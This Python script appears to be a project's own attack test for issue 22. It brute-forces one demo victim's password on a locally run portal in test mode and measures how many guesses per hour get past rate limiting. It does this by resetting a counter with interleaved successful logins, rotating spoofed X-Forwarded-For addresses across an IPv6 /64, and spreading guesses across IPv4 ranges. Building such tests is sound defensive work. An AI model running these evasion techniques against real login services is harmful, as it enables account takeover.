#!/usr/bin/env python3
"""An attacker's program (issue 22): guess one victim's password as fast as the portal allows.

Run against a portal in test mode with the demo data (its captcha answer stands in for a captcha
solver, which issue 22 showed exists; /dev/outbox.json stands in for the attacker's own phone):

    scripts/attack/login_guess.py --base http://127.0.0.1:3400 --minutes 60

Strategies (--mode):
  alternate  one IPv4 address: a guess at the victim, then a whole login (password and SMS code)
             to the attacker's own account, and again; when the portal says to wait, it waits
             exactly that long (the way around the old per-address counter, which a correct
             password took a failure back from).
  ipv6       every guess from a new address of the attacker's one IPv6 /64 (X-Forwarded-For, as
             the reverse proxy in front of the portal would pass it; the portal must be started
             with PORTAL_TRUST_FORWARDED_FOR=true).
  spread     every guess from an IPv4 address in a new /24 (a botnet), for comparison.

It prints the guesses whose password the portal checked ("không đúng"), the refusals, and the
score: checked guesses per hour at the victim.
"""

import argparse
import base64
import json
import random
import re
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from http.cookiejar import CookieJar

CAPTCHA = "kiemthu"


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


class Client:
    """A browser without JavaScript: its own cookies, redirects not followed."""

    def __init__(self, base, ip=None):
        self.base = base
        self.ip = ip
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(CookieJar()), NoRedirect
        )

    def request(self, path, data=None, referer=None):
        headers = {"Accept": "text/html", "Origin": self.base}
        if referer:
            headers["Referer"] = self.base + referer
        if self.ip:
            headers["X-Forwarded-For"] = self.ip
        body = urllib.parse.urlencode(data).encode() if data is not None else None
        req = urllib.request.Request(self.base + path, data=body, headers=headers)
        try:
            res = self.opener.open(req, timeout=60)
            return res.status, res.headers.get("Location", ""), res.read().decode()
        except urllib.error.HTTPError as e:
            return e.code, e.headers.get("Location", ""), e.read().decode(errors="replace")

    def captcha(self, page):
        _, _, html = self.request(page)
        m = re.search(r'name="f\[captcha_id\]" value="([0-9a-f]{32})"', html)
        if not m:
            sys.exit(f"no captcha on {page}")
        return m.group(1)

    def post(self, page, endpoint, fields, captcha=False):
        form = {f"f[{k}]": v for k, v in fields.items()}
        if captcha:
            form["f[captcha_id]"] = self.captcha(page)
            form["f[captcha_answer]"] = CAPTCHA
        status, location, _ = self.request(endpoint, form, referer=page)
        return location, message(location)


def message(location):
    """The error a refused post carries back (Leptos' `__err`), or "" when it went on."""
    query = urllib.parse.urlparse(location).query
    for k, v in urllib.parse.parse_qsl(query):
        if k == "__err":
            err = json.loads(base64.urlsafe_b64decode(v + "=" * (-len(v) % 4)))
            text = json.dumps(err, ensure_ascii=False)
            return text
    return ""


def wait_seconds(text):
    """How long the portal says to wait ("sau 12 phút", "sau 3 giờ"), in seconds."""
    m = re.search(r"(\d+) (phút|giờ)", text)
    if not m:
        return None
    n = int(m.group(1))
    return n * (3600 if m.group(2) == "giờ" else 60)


def latest_code(base, phone, after_id):
    for _ in range(100):
        with urllib.request.urlopen(base + "/dev/outbox.json", timeout=30) as res:
            msgs = json.load(res)
        for m in msgs:
            if m["recipient"] == phone and m["id"] > after_id and "mã xác thực" in m["body"]:
                return re.search(r"\b(\d{6})\b", m["body"]).group(1)
        time.sleep(0.1)
    sys.exit("no code arrived for the attacker's own phone")


def last_id(base):
    with urllib.request.urlopen(base + "/dev/outbox.json", timeout=30) as res:
        msgs = json.load(res)
    return max((m["id"] for m in msgs), default=0)


def own_login(args, ip):
    c = Client(args.base, ip)
    before = last_id(args.base)
    loc, err = c.post(
        "/dang-nhap", "/api/login",
        {"identifier": args.own, "password": args.own_password, "next": ""}, captcha=True,
    )
    if err:
        return f"own login refused: {err}"
    code = latest_code(args.base, args.own_phone, before)
    loc, err = c.post("/dang-nhap/xac-thuc", "/api/otp/verify", {"journey": "login", "code": code})
    return err or ""


def address(args, n):
    if args.mode == "ipv6":
        return "2001:db8:77:1:%x:%x:%x:%x" % tuple(random.getrandbits(16) for _ in range(4))
    if args.mode == "spread":
        return f"10.{(n // 250) % 250}.{n % 250}.{random.randint(1, 254)}"
    return args.ip


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--base", default="http://127.0.0.1:3400")
    p.add_argument("--mode", choices=["alternate", "ipv6", "spread"], default="alternate")
    p.add_argument("--minutes", type=float, default=60)
    p.add_argument("--victim", default="056090001234")
    p.add_argument("--own", default="056185004321")
    p.add_argument("--own-password", default="CongDan@2026")
    p.add_argument("--own-phone", default="0978123456")
    p.add_argument("--ip", default=None, help="X-Forwarded-For of the one address (alternate)")
    args = p.parse_args()

    start = time.time()
    end = start + args.minutes * 60
    checked = refused = n = 0
    last_refusal = ""
    while time.time() < end:
        n += 1
        ip = address(args, n)
        c = Client(args.base, ip)
        _, err = c.post(
            "/dang-nhap", "/api/login",
            {"identifier": args.victim, "password": f"Doan-Mo-{n}x", "next": ""}, captcha=True,
        )
        if "không đúng" in err:
            checked += 1
        else:
            refused += 1
            last_refusal = err
        if args.mode == "alternate":
            note = own_login(args, ip)
            if note:
                last_refusal = note
        if err and "không đúng" not in err:
            wait = wait_seconds(err) or 30
            if args.mode == "alternate":
                # Wait exactly as long as told (or to the end of the run).
                time.sleep(max(0, min(wait, end - time.time())))
            else:
                # A new address answers at once; a pause only spares this machine's CPU.
                time.sleep(1)
        elapsed = time.time() - start
        print(f"[{elapsed:7.1f}s] guesses checked {checked}, refused {refused}", flush=True)
    elapsed = time.time() - start
    print(json.dumps({
        "mode": args.mode,
        "minutes": round(elapsed / 60, 2),
        "guesses_checked": checked,
        "refused": refused,
        "guesses_per_hour": round(checked * 3600 / elapsed, 1),
        "last_refusal": last_refusal[:300],
    }, ensure_ascii=False, indent=2))


if __name__ == "__main__":
    main()
